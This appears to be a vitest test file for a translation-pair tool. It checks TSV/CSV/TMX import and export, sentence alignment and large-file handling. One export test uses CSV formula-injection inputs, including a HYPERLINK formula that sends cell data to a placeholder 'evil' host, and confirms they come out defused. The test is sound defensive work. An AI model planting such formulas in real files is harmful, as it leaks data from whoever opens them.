import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { parseDelimited } from '../../../shared/formats/delimited';
import { writeTmx } from '../../../shared/formats/tmx';
import type { Handlers } from '../../../shared/ipc/contract';
import { dispatch } from '../../../shared/ipc/dispatch';
import { openServices } from '../handlers';
import { tempDirs } from '../test-support';

const bundled = join(import.meta.dirname, '..', '..', '..', 'corpus');
const temp = tempDirs('facing-pairs-');
const closers: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const close of closers.splice(0)) await close();
}, 60_000);

async function services(): Promise<Handlers> {
  const opened = await openServices({ dataDir: temp(), corpusDir: bundled, shell: 'web', version: 'test', warmAfterMs: 60_000 });
  closers.push(opened.close);
  return opened.handlers;
}

async function call<C extends keyof Handlers>(h: Handlers, channel: C, payload: unknown) {
  const result = await dispatch(h, channel, payload);
  if (!result.ok) throw new Error(`${channel}: ${result.error.message}`);
  return result.value as Awaited<ReturnType<Handlers[C]>>;
}

async function importPair(h: Handlers, name: string, text: string) {
  const outcome = await call(h, 'pairs:import', { name, data: Buffer.from(text).toString('base64') });
  if (!('left' in outcome)) throw new Error('asked to choose');
  return outcome;
}

describe('pair files in and out', { timeout: 60_000 }, () => {
  it('a file whose two sides are the same text makes two documents, and finds them again', async () => {
    const h = await services();
    const first = await importPair(h, 'cities.tsv', 'en\tde\nBerlin\tBerlin\nParis\tParis\n');
    expect(first.left.id).not.toBe(first.right.id);
    expect(first.rows).toBe(2);
    const [a, b] = await Promise.all([call(h, 'documents:get', { id: first.left.id }), call(h, 'documents:get', { id: first.right.id })]);
    expect([a.meta.language, b.meta.language]).toEqual(['en', 'de']);
    expect(a.text).toBe(b.text);
    const again = await importPair(h, 'cities.tsv', 'en\tde\nBerlin\tBerlin\nParis\tParis\n');
    expect([again.left.id, again.right.id]).toEqual([first.left.id, first.right.id]);
  });

  it('exports TSV and CSV with formula cells defused and the text of each row as the document has it', async () => {
    const h = await services();
    const rows = ['"=HYPERLINK(""http://evil/?""&A1)"\t@SUM(A1)', '+1+2 then more.\t-2+3', '<![CDATA[x]]> here.\tHier.'];
    const pair = await importPair(h, 'evil.tsv', `en\tde\n${rows.join('\n')}\n`);
    const tsv = await call(h, 'pairs:export', { left: pair.left.id, right: pair.right.id, format: 'tsv' });
    const csv = await call(h, 'pairs:export', { left: pair.left.id, right: pair.right.id, format: 'csv' });
    expect(csv.name).toMatch(/\.csv$/);
    expect(csv.mime).toBe('text/csv');
    for (const [text, delimiter] of [
      [tsv.text!, '\t'],
      [csv.text!, ','],
    ] as const) {
      const cells = parseDelimited(text, delimiter).slice(1).map((r) => [r[1], r[2]]);
      expect(cells).toEqual([
        [`'=HYPERLINK("http://evil/?"&A1)`, `'@SUM(A1)`],
        [`'+1+2 then more.`, `'-2+3`],
        ['<![CDATA[x]]> here.', 'Hier.'],
      ]);
    }
  });

  it('a TMX imports as rows that hold when the pair is opened, sentences split as the library splits them', async () => {
    const h = await services();
    const units: Array<[string, string]> = [
      ['Press OK.', 'Drücken Sie OK.'],
      ['Dr. Smith arrived at 5 p.m. Then he left.', 'Dr. Smith kam um 17 Uhr. Dann ging er, z. B. nach Hause.'],
      ['Really?! Yes.', 'Wirklich?! Ja.'],
      ['Only English.', ''],
      ['He said "stop." Then he left.', 'Er sagte „Halt.“ Dann ging er am 22. Dezember.'],
    ];
    const pair = { source: 'en', target: 'de', units: units.map(([source, target], k) => ({ source, target, checked: k === 1, confidence: 0.5 })) };
    const tmx = writeTmx(pair, { singleLanguage: true }).text;
    const imported = await importPair(h, 'manual.tmx', tmx);
    expect(imported.rows).toBe(5);
    const alignment = await call(h, 'alignment:get', { left: imported.left.id, right: imported.right.id });
    expect(alignment.edited).toBe(true);
    const [a, b] = await Promise.all([call(h, 'documents:get', { id: imported.left.id }), call(h, 'documents:get', { id: imported.right.id })]);
    const textOf = (doc: typeof a, ids: string[]) => ids.map((id) => doc.paragraphs.flatMap((p) => p.sentences).find((s) => s.id === id)!).map((s) => doc.text.slice(s.start, s.end)).join(' ');
    expect(alignment.rows.map((r) => [textOf(a, r.a), textOf(b, r.b)])).toEqual(units);
    expect(alignment.rows.map((r) => r.a.length)).toEqual([1, 2, 2, 1, 2]);
    expect(alignment.rows.map((r) => r.checked)).toEqual([false, true, false, false, false]);
  });

  it('hands the event loop back while a big TMX is read and stored', async () => {
    const h = await services();
    const units = Array.from({ length: 20_000 }, (_, k) => ({ source: `Unit number ${k} of the file.`, target: `Einheit Nummer ${k} der Datei.` }));
    const data = Buffer.from(writeTmx({ source: 'en', target: 'de', units }).text).toString('base64');
    let turns = 0;
    let importing = true;
    const turn = () => {
      turns++;
      if (importing) setImmediate(turn);
    };
    setImmediate(turn);
    const answered: string[] = [];
    const info = call(h, 'app:info', {}).then(() => answered.push('info'));
    const imported = call(h, 'pairs:import', { name: 'big.tmx', data }).then((outcome) => (answered.push('import'), outcome));
    const outcome = await imported;
    importing = false;
    await info;
    expect('rows' in outcome && outcome.rows).toBe(20_000);
    expect(answered).toEqual(['info', 'import']);
    // 20,000 units are ten slices per side of building; a blocking import turns the loop a handful of times.
    expect(turns).toBeGreaterThan(20);
  });

  it('names the file in what it refuses', async () => {
    const h = await services();
    const refused = await dispatch(h, 'pairs:import', { name: 'huge.csv', data: Buffer.from(`en,de\nBerlin,${'x'.repeat(1_100_000)}\n`).toString('base64') });
    expect(refused.ok).toBe(false);
    if (!refused.ok) expect(refused.error.message).toMatch(/"huge\.csv".*row 2/);
  });
});
